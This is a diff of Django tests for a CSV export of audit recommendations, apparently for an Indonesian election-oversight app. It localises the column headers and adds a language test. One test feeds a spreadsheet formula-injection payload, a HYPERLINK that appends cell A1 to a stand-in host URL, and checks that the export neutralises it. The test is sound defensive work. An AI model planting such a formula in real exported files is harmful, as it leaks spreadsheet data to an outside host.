@@ -130,9 +130,10 @@ def test_the_csv_holds_what_each_may_read(
     for reader in (auditor, bawaslu_bantul_officer):
         client.force_login(reader)
         [row] = _rows(client.get(url))
-        assert row["title"] == item.title and row["answer_due"] == item.answer_due.isoformat()
-        assert row["overdue"] == "no" and row["status"] == "open"
-        assert row["addressed_to"] == _bawaslu_bantul().name
+        assert row["Judul"] == item.title
+        assert row["Jawab paling lambat"] == item.answer_due.isoformat()
+        assert row["Lewat tenggat"] == "Tidak" and row["Status"] == "Menunggu tanggapan"
+        assert row["Ditujukan kepada"] == _bawaslu_bantul().name
     client.force_login(bkn_officer)  # neither the auditor nor the addressee
     assert _rows(client.get(url)) == []
 
@@ -145,4 +146,17 @@ def test_the_csv_opens_typed_text_as_text_never_as_a_formula(
     _file(auditor, title='=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")')
     client.force_login(auditor)
     [row] = _rows(client.get(reverse("transparency:recommendations_csv")))
-    assert row["title"] == '\'=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")'
+    assert row["Judul"] == '\'=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")'
+
+
+def test_the_csv_speaks_the_readers_language(
+    client,
+    auditor,  # noqa: F811
+    bawaslu_bantul_officer,
+):
+    _file(auditor, answer_due=timezone.localdate() - dt.timedelta(days=1))
+    client.force_login(auditor)
+    client.cookies["django_language"] = "en"
+    [row] = _rows(client.get(reverse("transparency:recommendations_csv")))
+    assert row["Status"] == "Awaiting a response" and row["Overdue"] == "Yes"
+    assert row["Answer"] == "" and row["Answered at"] == ""
